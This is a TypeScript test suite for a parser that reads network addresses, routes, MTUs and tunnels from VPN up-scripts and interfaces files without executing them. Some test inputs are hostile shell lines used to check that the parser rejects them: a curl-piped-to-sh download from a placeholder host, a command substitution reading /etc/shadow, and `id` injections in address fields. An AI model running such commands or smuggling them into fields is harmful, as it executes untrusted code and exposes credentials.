import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { readInterfacesFacts } from './interfaces.ts'
import { readShellFacts } from './shell-facts.ts'

const file = (text: string) => ({ name: 'up', bytes: new Uint8Array(), text })
const known = new Map([
  ['dev', 'tap0'],
  ['INTERFACE', 'inet6'],
])
const facts = (text: string) => readShellFacts(file(text), known).facts.map(({ line, text: _, ...fact }) => fact)
const why = (text: string) => readShellFacts(file(text), known).leftOut.map((left) => left.why)

describe('forms that people write', () => {
  test.each([
    ['ifconfig $dev add 2001:db8::2/64', { kind: 'address', device: 'tap0', address: '2001:db8::2/64' }],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's variable
    ['/sbin/ifconfig ${dev} inet6 add 2001:db8::2/64', { kind: 'address', device: 'tap0', address: '2001:db8::2/64' }],
    ['ifconfig tap0 10.1.0.2 netmask 255.255.240.0', { kind: 'address', device: 'tap0', address: '10.1.0.2/20' }],
    ['ip a a 2001:DB8::2/64 dev "$dev"', { kind: 'address', device: 'tap0', address: '2001:db8::2/64' }],
    ["ip -6 addr add 2001:db8::2 dev 'tap0'", { kind: 'address', device: 'tap0', address: '2001:db8::2/128' }],
    ['ip link set mtu 1400 dev tap0', { kind: 'mtu', device: 'tap0', mtu: 1400 }],
    ['ip link set "$INTERFACE" up mtu 1400', { kind: 'mtu', device: 'inet6', mtu: 1400 }],
    ['ifconfig mytun mtu 1400', { kind: 'mtu', device: 'mytun', mtu: 1400 }],
    ['new=tap_x\nip link set $dev name $new', { kind: 'name', device: 'tap0', name: 'tap_x' }],
    ['route -6 add 2000::/3 gw 2001:db8::1', { kind: 'route', to: '2000::/3', via: '2001:db8::1', device: null }],
    ['route -A inet6 add default dev tap0', { kind: 'route', to: '::/0', via: null, device: 'tap0' }],
    [
      'route add -net 10.0.0.0 netmask 255.0.0.0 gw 10.1.0.1',
      { kind: 'route', to: '10.0.0.0/8', via: '10.1.0.1', device: null },
    ],
    ['ip -6 route add default dev "$INTERFACE"', { kind: 'route', to: '::/0', via: null, device: 'inet6' }],
    ['ip route add default via 10.0.0.1', { kind: 'route', to: '0.0.0.0/0', via: '10.0.0.1', device: null }],
    ['ip -6 route add fd12::1/64 dev mytun', { kind: 'route', to: 'fd12::/64', via: null, device: 'mytun' }],
    [
      'ip -6 tunnel add mytun mode ip6ip6 remote 2001:db8::2 local 2001:db8::1 dev eth1 encaplimit none',
      {
        kind: 'tunnel',
        mode: 'ip6ip6',
        device: 'mytun',
        local: '2001:db8::1',
        remote: '2001:db8::2',
        encapsulationLimit: 'none',
        hopLimit: null,
        key: null,
        checksum: false,
        sequence: false,
      },
    ],
    [
      'ip link add home type gre local 10.0.0.1 remote 10.0.0.2 key 0.0.0.7 ttl 64 seq',
      {
        kind: 'tunnel',
        mode: 'gre',
        device: 'home',
        local: '10.0.0.1',
        remote: '10.0.0.2',
        encapsulationLimit: null,
        hopLimit: 64,
        key: 7,
        checksum: false,
        sequence: true,
      },
    ],
  ])('%s', (text, fact) => {
    expect(facts(text)).toEqual([fact])
  })
})

describe('what only a run would tell, or nobody should', () => {
  test.each([
    ['ip addr add $(cat /etc/shadow) dev tap0', /needs the output of a command/],
    ['ip addr add `id`/64 dev tap0', /needs the output of a command/],
    ['ip addr add $ADDRESS dev tap0', /a variable in it whose value/],
    ['if [ -n "$x" ]; then\nip addr add ::1/64 dev tap0\nfi', /a condition, a loop or a function/],
    ['[ -f /x ] && ip addr add fd00::1/64 dev tap0', /a condition/],
    ['ip addr add fd00::1/64 dev tap0 || exit 1', /a condition/],
    ['f() {\nip addr add fd00::1/64 dev tap0\n}', /a function/],
    ['ip addr add "fd00::1/64 dev tap0', /a quote that does not end/],
    ['ip addr del fd00::1/64 dev tap0', /takes something away/],
    ['curl http://192.0.2.1/x | sh', /says nothing/],
    ['ip addr add fe80::1%$(id) dev tap0', /needs the output of a command/],
    ['ip addr add 1.2.3/8 dev tap0', /“1.2.3\/8” is no address/],
    ['ip tunnel add t mode gre remote 10.0.0.2 ikey 1 okey 2', /another key each way/],
    ['ip tunnel add t mode gre remote 10.0.0.2 key x', /“x” is no key/],
  ])('%s', (text, expected) => {
    expect(
      why(text).some((one) => expected.test(one)),
      why(text).join('; '),
    ).toBe(true)
  })

  it('knows what follows a branch, a pair of && and a comment', () => {
    const text =
      'f()\n{\n:\n}\nif x; then y; fi\nip link set $dev up && ip addr add fd00::1/64 dev $dev # ip addr add fd00::2/64\n'
    expect(facts(text)).toEqual([{ kind: 'address', device: 'tap0', address: 'fd00::1/64' }])
  })
})

describe('branches about what is known', () => {
  const verb = new Map([['PLUTO_VERB', 'up-client']])
  const read = (text: string) => readShellFacts(file(text), verb)
  const up = 'ip addr add fd00::1/64 dev t'
  const down = 'ip addr add fd00::2/64 dev t'

  test.each([
    `case "$PLUTO_VERB" in\nup-client)\n${up}\n;;\ndown-client)\n${down}\n;;\nesac`,
    `case $PLUTO_VERB in (down-*) ${down} ;; up-host | up-*) ${up} ;; *) ${down} ;; esac`,
    `case "$PLUTO_VERB:$1" in\nesac\nif [ "$PLUTO_VERB" = up-client ]; then\n${up}\nelse\n${down}\nfi`,
    `if [ "$PLUTO_VERB" = down-client ]\nthen\n${down}\nelif [[ $PLUTO_VERB == up-* ]]; then\n${up}\nfi`,
    `if test "$PLUTO_VERB" != up-client; then case x in x) ${down};; esac; else ${up}; fi`,
    `[ "$PLUTO_VERB" = up-client ] || exit 0\n${up}`,
  ])('%s', (text) => {
    expect(read(text).facts.map((fact) => fact.kind === 'address' && fact.address)).toEqual(['fd00::1/64'])
    for (const { text: left, why: reason } of read(text).leftOut)
      if (left.includes('fd00::2')) expect(reason).toBe('is not run when the tunnel goes up')
  })

  test.each([
    `case "$X" in up-client) ${up} ;; esac`,
    `case "$PLUTO_VERB" in $X) ${down} ;; up-client) ${up} ;; esac`,
    `if [ "$PLUTO_VERB" = up-client ] && [ -n "$X" ]; then ${up}; fi`,
    `if [ -n "$PLUTO_VERB" ]; then ${up}; fi`,
    `case "$PLUTO_VERB" in up-client) for x in y; do ${up}; done ;; esac`,
  ])('and what nobody knows: %s', (text) => {
    expect(read(text).facts).toEqual([])
    expect(read(text).leftOut.some(({ text: left }) => left.includes('fd00::1'))).toBe(true)
  })
})

it('reads a static stanza with what it runs when it goes up', () => {
  const read = readInterfacesFacts(
    file(
      'auto t\niface t inet6 static\n  address fd00::2\n  netmask 64\n  mtu 1400\n  post-up ip -6 route add fd01::/64 dev $IFACE mtu 1300\n  down ip x\niface e inet dhcp\n  address 10.0.0.1\n',
    ),
  )
  expect(read.facts.map(({ text: _, ...fact }) => fact)).toEqual([
    { kind: 'mtu', device: 't', mtu: 1400, line: 5 },
    { kind: 'route', to: 'fd01::/64', via: null, device: 't', line: 6 },
    { kind: 'mtu', device: 't', mtu: 1300, line: 6 },
    { kind: 'address', device: 't', address: 'fd00::2/64', line: 3 },
  ])
  expect(read.leftOut.map(({ line }) => line)).toEqual([1, 7, 9])
})

it('reads a tunnel’s stanza, with the addresses of its device', () => {
  const read = readInterfacesFacts(
    file(
      'iface t inet tunnel\n  mode GRE\n  endpoint 10.0.0.2\n  local 10.0.0.1\n  ttl 64\n  address 10.1.0.1\n  netmask 255.255.255.252\niface t inet6 static\n  address fd00::2/64\niface o inet tunnel\n  mode IPIP\n',
    ),
  )
  expect(read.facts).toMatchObject([
    { kind: 'tunnel', mode: 'gre', device: 't', local: '10.0.0.1', remote: '10.0.0.2', hopLimit: 64, line: 1 },
    { kind: 'address', device: 't', address: '10.1.0.1/30', line: 6 },
    { kind: 'address', device: 't', address: 'fd00::2/64', line: 9 },
  ])
  expect(read.leftOut).toMatchObject([{ line: 10, why: 'is no ip6ip6 or gre tunnel' }])
})

it('no text makes it throw, and each line is a fact, left out, blank, a comment or a variable', () => {
  const word = fc.constantFrom(
    'ip',
    'addr',
    'add',
    'dev',
    '$dev',
    '"',
    "'",
    '\\',
    ';',
    ';;',
    'case x in',
    'x)',
    'esac',
    'if [ x = x ]',
    'then',
    'fi',
    '&&',
    '`',
    '$(',
    '2001:db8::1/64',
  )
  const text = fc.oneof(
    fc.string(),
    fc.array(fc.oneof(word, fc.string({ maxLength: 4 }))).map((all) => all.join(' ')),
  )
  fc.assert(
    fc.property(fc.array(text), (lines) => {
      const script = lines.join('\n')
      const { facts: found, leftOut } = readShellFacts(file(script), known)
      for (const { line } of [...found, ...leftOut]) expect(line).toBeLessThanOrEqual(script.split('\n').length)
      readInterfacesFacts(file(`iface x inet6 static\n${script}`))
    }),
  )
})
